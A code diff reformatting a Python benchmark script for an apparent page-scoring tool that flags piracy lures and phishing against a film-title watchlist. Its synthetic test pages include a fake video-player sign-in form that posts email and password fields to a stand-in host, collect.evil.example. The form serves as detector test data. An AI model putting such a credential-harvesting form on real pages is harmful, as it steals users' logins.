@@ -22,19 +22,37 @@ sys.path.insert(0, str(ROOT))
 
 from pipelines.classify_cli import read_page  # noqa: E402
 from pipelines.scoring import assess_page  # noqa: E402
-from pipelines.watchlists import Title, load_watchlists, load_titles  # noqa: E402
+from pipelines.watchlists import Title, load_titles, load_watchlists  # noqa: E402
 
-COMMON = ("the of a and in man night dark last day love war king world story house girl boy city black blue "
-          "red white dead life time home star moon sun river road game star lost secret return rise fall "
-          "legend shadow ghost heart blood fire ice stone iron golden silver wild little big great new old").split()
+COMMON = (
+    "the of a and in man night dark last day love war king world story house girl boy city black blue "
+    "red white dead life time home star moon sun river road game star lost secret return rise fall "
+    "legend shadow ghost heart blood fire ice stone iron golden silver wild little big great new old"
+).split()
 
 
 def synthetic_titles(n: int, seed: int = 7) -> list[Title]:
     """The shipped titles plus ``n - len(shipped)`` generated ones (deterministic)."""
-    rng = random.Random(seed)
+    rng = random.Random(seed)  # noqa: S311 - synthetic data, not secrets
     titles = list(load_titles())
     seen = {t.title.casefold() for t in titles}
-    syllables = ["ka", "lo", "mi", "ra", "ven", "dor", "tis", "qua", "ber", "zan", "el", "or", "thi", "mur", "pex"]
+    syllables = [
+        "ka",
+        "lo",
+        "mi",
+        "ra",
+        "ven",
+        "dor",
+        "tis",
+        "qua",
+        "ber",
+        "zan",
+        "el",
+        "or",
+        "thi",
+        "mur",
+        "pex",
+    ]
     while len(titles) < n:
         words = []
         for _ in range(rng.choice((1, 2, 2, 3, 3, 4))):
@@ -53,7 +71,9 @@ def synthetic_titles(n: int, seed: int = 7) -> list[Title]:
 
 
 def _write_titles(titles: list[Title], path: Path) -> None:
-    path.write_text("".join(f"- {{title: {json.dumps(t.title)}, year: {t.year}}}\n" for t in titles), encoding="utf-8")
+    path.write_text(
+        "".join(f"- {{title: {json.dumps(t.title)}, year: {t.year}}}\n" for t in titles), encoding="utf-8"
+    )
 
 
 def corpus_pages(manifest: Path) -> list[tuple[str, str]]:
@@ -63,23 +83,34 @@ def corpus_pages(manifest: Path) -> list[tuple[str, str]]:
 
 
 def generated_pages(count: int = 300, seed: int = 11) -> list[tuple[str, str]]:
-    rng = random.Random(seed)
+    rng = random.Random(seed)  # noqa: S311 - synthetic data, not secrets
     filler = " ".join(rng.choice(COMMON) for _ in range(400))
     out = []
     for i in range(count):
         title = rng.choice(load_titles()).title
         kind = i % 3
         if kind == 0:
-            body = (f"<h1>Watch {title} (2026) Full Movie Online Free HD</h1><p>{filler}</p>"
-                    f'<a href="https://bit.ly/x{i}"><img src="play.png" alt="play"></a>'
-                    + ", ".join(f"{title} {s}" for s in ("full movie", "online free", "123movies", "streaming vf")))
+            body = (
+                f"<h1>Watch {title} (2026) Full Movie Online Free HD</h1><p>{filler}</p>"
+                f'<a href="https://bit.ly/x{i}"><img src="play.png" alt="play"></a>'
+                + ", ".join(
+                    f"{title} {s}" for s in ("full movie", "online free", "123movies", "streaming vf")
+                )
+            )
         elif kind == 1:
             body = f"<h1>{title} review</h1><p>{filler}</p><p>{title} is in cinemas now.</p>"
         else:
-            body = (f"<h1>{title} HD player</h1><p>Sign in to continue watching</p>"
-                    f'<form action="https://collect.evil.example/gate.php"><input type="email" name="email">'
-                    f'<input type="password" name="pass"></form><p>{filler}</p>')
-        out.append((f"<html><head><title>{title}</title></head><body>{body}</body></html>", f"https://s{i}.example/p"))
+            body = (
+                f"<h1>{title} HD player</h1><p>Sign in to continue watching</p>"
+                f'<form action="https://collect.evil.example/gate.php"><input type="email" name="email">'
+                f'<input type="password" name="pass"></form><p>{filler}</p>'
+            )
+        out.append(
+            (
+                f"<html><head><title>{title}</title></head><body>{body}</body></html>",
+                f"https://s{i}.example/p",
+            )
+        )
     return out
 
 
@@ -104,12 +135,15 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--pages", type=Path, default=ROOT / "tests" / "corpus" / "manifest.jsonl")
     parser.add_argument("--sizes", default="100,1000,10000")
     parser.add_argument("--repeat", type=int, default=3)
-    parser.add_argument("--workdir", type=Path, default=Path("/tmp"))
+    parser.add_argument("--workdir", type=Path, default=Path("/tmp"))  # noqa: S108 - scratch watchlists
     args = parser.parse_args(argv)
     pages = corpus_pages(args.pages) if args.pages.is_file() else generated_pages()
     source = args.pages if args.pages.is_file() else "generated pages"
     size_bytes = sum(len(h) for h, _ in pages) / max(1, len(pages))
-    print(f"{len(pages)} pages from {source} (mean {size_bytes / 1024:.1f} KiB), one core (CPU time), best of {args.repeat}")
+    print(
+        f"{len(pages)} pages from {source} (mean {size_bytes / 1024:.1f} KiB), "
+        f"one core (CPU time), best of {args.repeat}"
+    )
     rates = []
     for n in (int(s) for s in args.sizes.split(",")):
         path = args.workdir / f"lurewatch-bench-titles-{n}.yaml"
@@ -118,8 +152,10 @@ def main(argv: list[str] | None = None) -> int:
         rates.append(rate)
         print(f"  {n:>6} titles: {rate:8.1f} pages/s   (index built in {build * 1000:.0f} ms)")
     if len(rates) > 1:
-        print(f"  cost growth {args.sizes.split(',')[0]} -> {args.sizes.split(',')[-1]} titles: "
-              f"{rates[0] / rates[-1]:.2f}x")
+        print(
+            f"  cost growth {args.sizes.split(',')[0]} -> {args.sizes.split(',')[-1]} titles: "
+            f"{rates[0] / rates[-1]:.2f}x"
+        )
     return 0
 
 
